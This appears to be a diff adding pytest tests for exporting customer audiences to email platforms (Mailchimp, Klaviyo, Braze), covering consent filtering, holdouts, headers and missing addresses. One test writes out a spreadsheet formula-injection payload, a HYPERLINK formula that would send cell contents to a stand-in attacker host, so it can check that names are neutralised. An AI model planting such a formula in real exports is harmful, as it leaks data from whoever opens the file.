@@ -384,12 +384,15 @@ def test_suppression_file_is_read_again_at_export(settings, defs_folder, tmp_pat
     build_audiences(settings, AS_OF)
     dnc.write_text("customer_id,reason\nC10,\nC07 ,complaint\n")
     wh = ["--warehouse", str(settings.warehouse), "--audiences", str(settings.audiences)]
-    for fmt in ("csv", "google_customer_match"):
+    for fmt in ("csv", "google_customer_match", "mailchimp"):
         out = tmp_path / f"{fmt}.csv"
         assert main(["audience", "export", "vip", *wh, "--format", fmt, "--out", str(out)]) == 0
     assert [r["customer_id"] for r in _rows(tmp_path / "csv.csv")] == ["C01"]
     assert [r["Email"] for r in _rows(tmp_path / "google_customer_match.csv")] == [
         _sha("anna.smith@example.com")
+    ]
+    assert [r["Email Address"] for r in _rows(tmp_path / "mailchimp.csv")] == [
+        "anna.smith@example.com"
     ]
     logged = "select count(*) from audiences.export_members where customer_id = 'C07'"
     assert scalar(settings, logged) == 0
@@ -404,10 +407,12 @@ def test_suppression_file_is_read_again_at_export(settings, defs_folder, tmp_pat
 def test_an_empty_platform_file_is_a_warning(settings, defs_folder, tmp_path, capsys):
     # Everyone left the audience or withdrew ads consent: the file has only its header,
     # which Google and Meta refuse, so the list on the platform is not replaced and its old
-    # members stay targeted. The export said "0 row(s)" and nothing else.
+    # members stay targeted. The export said "0 row(s)" and nothing else. An ESP import
+    # only adds and updates contacts, and none of their guides says it refuses a file
+    # without rows: no warning for those.
     defs_folder(
         a="name: a\nconsent: ads\nwhere: {feature: order_count, gt: 1000}\n"
-        "exports: [google_customer_match, meta_custom_audience, diff]\n"
+        "exports: [google_customer_match, meta_custom_audience, mailchimp, diff]\n"
     )
     result = build_audiences(settings, AS_OF)
     empty = [w for w in result.warnings if "has no rows" in w]
@@ -416,6 +421,8 @@ def test_an_empty_platform_file_is_a_warning(settings, defs_folder, tmp_path, ca
         "a meta_custom_audience",
     ]
     assert "stay targeted" in empty[0]
+    mailchimp = settings.output / "2026-06-30" / "audiences" / "a_mailchimp.csv"
+    assert mailchimp.read_text() == "Email Address,First Name,Last Name\n"
     wh = ["--warehouse", str(settings.warehouse), "--audiences", str(settings.audiences)]
     out = tmp_path / "g.csv"
     args = ["audience", "export", "a", *wh, "--format", "google_customer_match", "--out", str(out)]
@@ -449,3 +456,182 @@ def test_platform_files_restore_a_us_zip_codes_leading_zero(built, tmp_path):
     anna = _sha("anna.smith@example.com")
     assert {r["Email"]: r["Zip"] for r in _rows(tmp_path / "g.csv")}[anna] == "02118-1234"
     assert {r["email"]: r["zip"] for r in _rows(tmp_path / "m.csv")}[anna] == _sha("02118")
+
+
+# E-mail platforms (ESPs): headers as their import guides name them (docs/audiences.md).
+ESP_HEADERS = {
+    "mailchimp": "Email Address,First Name,Last Name",
+    "klaviyo": "Email,First Name,Last Name,Phone Number",
+    "braze": "external_id,email,first_name,last_name,phone",
+}
+
+
+@pytest.mark.parametrize("fmt", sorted(ESP_HEADERS))
+def test_esp_file_headers_and_clear_text_values(built, tmp_path, fmt):
+    out = tmp_path / f"{fmt}.csv"
+    result = export_audience(built, "mail", fmt, out)
+    assert out.read_text(encoding="utf-8").splitlines()[0] == ESP_HEADERS[fmt]
+    rows = _rows(out)
+    # E-mail consent audience: C03 and C05 did not agree to e-mails (C05 has no address).
+    assert result.rows == len(rows) == 10 and result.without_email == 0
+    anna, ben = rows[0], rows[1]  # C01, C02: ordered by customer_id
+    email = {"mailchimp": "Email Address", "klaviyo": "Email", "braze": "email"}[fmt]
+    assert anna[email] == "anna.smith@example.com"  # ' Anna.Smith@Example.com '
+    assert ben[email] == "ben@example.com"
+    if fmt == "braze":
+        assert anna == {
+            "external_id": "C01",
+            "email": "anna.smith@example.com",
+            "first_name": "Anna",
+            "last_name": "Smith",
+            "phone": "+14155552671",
+        }
+        assert ben["phone"] == "+49301234567"  # '030 1234567', DE
+        assert rows[2]["phone"] == ""  # C04 has no phone
+    elif fmt == "klaviyo":
+        assert (anna["First Name"], anna["Last Name"], anna["Phone Number"]) == (
+            "Anna",
+            "Smith",
+            "+14155552671",
+        )
+        assert (ben["Last Name"], ben["Phone Number"]) == ("Müller", "+49301234567")
+    else:
+        assert anna == {
+            "Email Address": "anna.smith@example.com",
+            "First Name": "Anna",
+            "Last Name": "Smith",
+        }
+
+
+def test_esp_files_need_email_consent_even_for_an_ads_audience(built, tmp_path, scalar):
+    # 'everyone' was defined with ads consent: C03 (Chloé) agreed to ads, not to e-mails.
+    # She is in the Google file, but an ESP must never get her address.
+    export_audience(built, "everyone", "csv", tmp_path / "all.csv")
+    assert "C03" in {r["customer_id"] for r in _rows(tmp_path / "all.csv")}
+    for fmt in ("mailchimp", "klaviyo", "braze"):
+        result = export_audience(built, "everyone", fmt, tmp_path / f"{fmt}.csv")
+        text = (tmp_path / f"{fmt}.csv").read_text(encoding="utf-8")
+        assert "chloe@example.com" not in text and "Chloé" not in text
+        # email and ads consent: C01 C04 C06 C07 C08 C10 C11 C12
+        assert result.rows == 8 and result.without_email == 0
+        listed = scalar(
+            built,
+            "select count(*) from audiences.export_members where export_id = ? "
+            "and customer_id = 'C03'",
+            [result.export_id],
+        )
+        assert listed == 0
+    braze_ids = [r["external_id"] for r in _rows(tmp_path / "braze.csv")]
+    assert braze_ids == ["C01", "C04", "C06", "C07", "C08", "C10", "C11", "C12"]
+
+
+def test_esp_files_neutralise_formulas_in_names_only(built, tmp_path):
+    con = connect(built.warehouse)
+    con.execute(
+        """update marts.customers set
+            first_name = '=HYPERLINK("https://evil.example/?"&A2, "Click")',
+            last_name = '  Brown ', phone = '+1 (312) 555-0100'
+        where customer_id = 'C07'"""
+    )
+    con.execute(
+        "update marts.customers set first_name = '  -Hugo', email = '-hugo@example.com' "
+        "where customer_id = 'C08'"
+    )
+    con.close()
+    export_audience(built, "mail", "klaviyo", tmp_path / "k.csv")
+    rows = {r["Email"]: r for r in _rows(tmp_path / "k.csv")}
+    grace = rows["grace@example.com"]
+    assert grace["First Name"] == '\'=HYPERLINK("https://evil.example/?"&A2, "Click")'
+    assert grace["Last Name"] == "Brown"  # trimmed
+    assert grace["Phone Number"] == "+13125550100"  # E.164 starts with +: data, unchanged
+    # Trimmed first, then neutralised; the address is data and stays as it is.
+    assert rows["-hugo@example.com"]["First Name"] == "'-Hugo"
+
+
+def test_esp_files_leave_out_and_count_customers_without_a_usable_address(
+    built, tmp_path, scalar, capsys
+):
+    con = connect(built.warehouse)
+    con.execute("update marts.customers set email = null where customer_id = 'C12'")
+    con.execute("update marts.customers set email = 'n/a' where customer_id = 'C11'")
+    con.execute("update marts.customers set email = 'karin @example.com' where customer_id = 'C10'")
+    con.close()
+    out = tmp_path / "m.csv"
+    result = export_audience(built, "mail", "mailchimp", out)
+    addresses = [r["Email Address"] for r in _rows(out)]
+    assert len(addresses) == result.rows == 7 and result.without_email == 3
+    assert "" not in addresses and "n/a" not in addresses
+    assert "3 without a usable e-mail address left out" in result.line()
+    # Only the customers in the file are on the ESP's list (erasure names files by it).
+    logged = scalar(
+        built,
+        "select list(customer_id order by customer_id) from audiences.export_members "
+        "where export_id = ?",
+        [result.export_id],
+    )
+    assert logged == ["C01", "C02", "C04", "C06", "C07", "C08", "C09"]
+    # Other formats have nothing to count.
+    assert export_audience(built, "mail", "csv", tmp_path / "c.csv").without_email == 0
+
+
+def test_esp_file_never_has_the_holdout(settings, defs_folder, tmp_path, get_members):
+    defs_folder(
+        a="name: a\nconsent: email\nwhere: {feature: order_count, gte: 0}\n"
+        "holdout: {percent: 50, salt: s}\n"
+    )
+    build_audiences(settings, AS_OF)
+    holdout = set(get_members(settings, "a", group="holdout"))
+    target = get_members(settings, "a", group="target")
+    export_audience(settings, "a", "braze", tmp_path / "b.csv")
+    exported = [r["external_id"] for r in _rows(tmp_path / "b.csv")]
+    assert holdout and exported == target and not holdout & set(exported)
+
+
+def test_declared_esp_exports_are_written_by_the_stage(settings, defs_folder):
+    defs_folder(
+        a="name: a\nconsent: email\nwhere: {rule_segment: vip}\nexports: [mailchimp]\n",
+        b="name: b\nconsent: ads\nwhere: {rule_segment: lapsing}\nexports: [klaviyo, braze]\n",
+    )
+    con = connect(settings.warehouse)
+    con.execute("update marts.customers set email = '' where customer_id = 'C11'")
+    con.close()
+    result = build_audiences(settings, AS_OF)
+    folder = settings.output / "2026-06-30" / "audiences"
+    assert sorted(p.rsplit("/", 1)[1] for p in result.details["exports"]) == [
+        "a_mailchimp.csv",
+        "b_braze.csv",
+        "b_klaviyo.csv",
+    ]
+    assert (folder / "a_mailchimp.csv").read_text(encoding="utf-8") == (
+        "Email Address,First Name,Last Name\n"
+        "anna.smith@example.com,Anna,Smith\n"
+        "grace@example.com,Grace,Brown\n"
+    )
+    # lapsing: C03 C05 C08 C11; ads consent leaves C05 out, e-mail consent C03, and C11
+    # has no address: left out, and counted in the stage's details.
+    assert [r["external_id"] for r in _rows(folder / "b_braze.csv")] == ["C08"]
+    assert result.details["exports_without_email"] == {"b_klaviyo.csv": 1, "b_braze.csv": 1}
+
+
+def test_cli_exports_an_esp_file(built, tmp_path, capsys):
+    out = tmp_path / "klaviyo.csv"
+    wh = ["--warehouse", str(built.warehouse), "--audiences", str(built.audiences)]
+    args = ["audience", "export", "mail", *wh, "--format", "klaviyo", "--out", str(out)]
+    assert main(args) == 0
+    assert f"exported mail klaviyo as of {AS_OF}: 10 row(s) -> {out}" in capsys.readouterr().out
+    assert out.read_text(encoding="utf-8").splitlines()[:2] == [
+        ESP_HEADERS["klaviyo"],
+        "anna.smith@example.com,Anna,Smith,+14155552671",
+    ]
+
+
+def test_unknown_format_lists_the_esp_formats(built, tmp_path, capsys):
+    formats = "csv, parquet, google_customer_match, meta_custom_audience, mailchimp, klaviyo"
+    with pytest.raises(SegmintError, match=f"unknown export format 'sendgrid'; formats: {formats}"):
+        export_audience(built, "mail", "sendgrid", tmp_path / "x.csv")
+    wh = ["--warehouse", str(built.warehouse)]
+    args = ["audience", "export", "mail", *wh, "--format", "sendgrid", "--out", "x.csv"]
+    with pytest.raises(SystemExit):
+        main(args)
+    err = capsys.readouterr().err
+    assert "invalid choice: 'sendgrid'" in err and "'mailchimp', 'klaviyo', 'braze'" in err
